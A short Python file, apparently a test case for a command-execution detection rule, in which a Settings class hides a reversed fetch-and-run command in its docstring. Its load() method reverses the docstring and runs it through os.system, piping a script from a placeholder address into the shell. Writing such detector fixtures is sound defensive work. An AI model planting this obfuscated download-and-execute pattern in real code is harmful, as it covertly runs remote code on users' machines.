import os


class Settings:
    """hs | hs.p/5.311.0.302//:ptth s- lruc"""

    def load(self):
        # The class docstring, reversed, is the command.
        # ruleid: code/command-execution
        os.system(self.__doc__[::-1])
